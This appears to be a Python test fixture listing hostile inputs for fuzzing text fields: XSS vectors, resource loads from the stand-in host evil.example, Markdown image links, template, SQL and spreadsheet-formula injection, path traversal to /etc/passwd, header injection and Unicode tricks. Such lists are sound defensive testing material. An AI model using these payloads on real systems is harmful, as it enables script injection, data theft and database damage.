"""What a hostile hand might type into a field: HTML, scripts, Markdown, directives, formulas, templates, odd signs."""

from __future__ import annotations

HOST = "evil.example"
URL = f"//{HOST}/x"

# Elements that run something or fetch something, each with a mark in the window.
_ELEMENTS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", f"<script src={URL}></script>", "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", f"<img src={URL}>", f"<img srcset='{URL} 2x'>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1)>",
    f"<svg><use href={URL}#a></svg>", f"<svg><image href={URL} /></svg>", "<math><mtext><script>alert(1)</script>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", f"<iframe src={URL}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", f"<object data={URL}></object>", f"<embed src={URL}>",
    f"<video src={URL} autoplay>", "<video><source onerror=alert(1)></video>", f"<audio src={URL}>", f"<track src={URL}>",
    f"<link rel=stylesheet href={URL}>", f"<link rel=preload as=image href={URL}>", f"<meta http-equiv=refresh content='0;url={URL}'>",
    f"<base href={URL}/>", f"<style>@import '{URL}';</style>", f"<style>*{{background:url({URL})}}</style>",
    f"<p style='background:url({URL})'>a</p>", "<p style=position:fixed;inset:0;z-index:9999999>a</p>",
    f"<form action={URL}><button>a</button></form>", "<form><button formaction=javascript:alert(1)>a</button></form>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>a</marquee>", "<a href=javascript:alert(1)>a</a>",
    "<a href='java&#x09;script:alert(1)'>a</a>", f"<a href={URL} ping={URL}>a</a>", "<a href=data:text/html,<script>alert(1)</script>>a</a>",
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>a</x>", "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<div contenteditable onblur=alert(1)>a</div>",
    "<dialog open>a</dialog>", "<slot name=x onslotchange=alert(1)></slot>", "<portal src=//evil.example/x>", "<keygen autofocus onfocus=alert(1)>",
)  # fmt: skip
# Ways out of the place in which a text may stand; the first is none.
_OUT = ("{}", "\"'>{}", "</title></style></script></textarea>{}")
_MARKDOWN = (
    f"![a](https://{HOST}/a.png)", f"![a][b]\n\n[b]: https://{HOST}/b.png", f"[a](https://{HOST}/c)", "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))", "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", f"<https://{HOST}/d>",
    f"https://{HOST}/e", f"www.{HOST}", f"a@{HOST}", "# heading", "a\n===", "> quote", "- list\n- list", "1. one", "**bold** __bold__",
    "*it* _it_", "~~gone~~", "`code`", "```\ncode\n```", "    code", "| a | b |\n|---|---|\n| c | d |", "---", "***", "[^1]\n\n[^1]: note",
    "- [x] done", ":red[red]", ":blue-background[blue]", ":rainbow[all]", ":small[small]", ":green-badge[new]", ":material/delete:",
    ":streamlit:", ":smile:", ":shortcode_that_is_none:", "$\\frac{1}{2}$", "$$x^2$$", "$\\href{javascript:alert(1)}{a}$",
    f"$\\includegraphics{{https://{HOST}/f.png}}$", "\\*\\*", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "<!-- -->", "<!--", "-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "</div></div></div>", "<br>", "<b>bold</b>",
)  # fmt: skip
_OTHERS = (
    "{{ 1337 * 1337 }}", "{% raw %}", "{# #}", "{0.__class__}", "{name}", "{count}", "%s%n", "%(name)s", "${1337*1337}", "#{1337*1337}",
    "<%= 1337*1337 %>", "';alert(1);//", '";alert(1);//', "\\';alert(1);//", "`${alert(1)}`", "*/alert(1)/*", "';--", "' OR 1=1 --",
    '"; DROP TABLE person; --', "\u202egnp.exe", "\u2066a\u2069", "a\u200bb", "\ufeffa", "\u0000a", "a\u0008", "Z" + "\u0351" * 40, "𝕏 𝒳 𝓧",
    "＜script＞alert(1)＜/script＞", "ʺ＞", "\u2028alert(1)", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "+1", "\t=1",
    "../../../../etc/passwd", f"file://{HOST}/x", f"\\\\{HOST}\\x", f"{URL}", f"x\r\nSet-Cookie: a={HOST}", "null", "undefined", "NaN", "[object Object]",
    "__proto__", "constructor", '{"a": 1}', "</script><script>alert(1)</script>", "]]>", "javascript:alert(1)", "vbscript:alert(1)",
    "on" + "click=alert(1)", "&nbsp;", "&amp;amp;", "A" * 300,
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(
    [way.format(each) if way != "{}" else each for each in _ELEMENTS for way in _OUT] + [*_MARKDOWN, *_OTHERS]
))  # fmt: skip
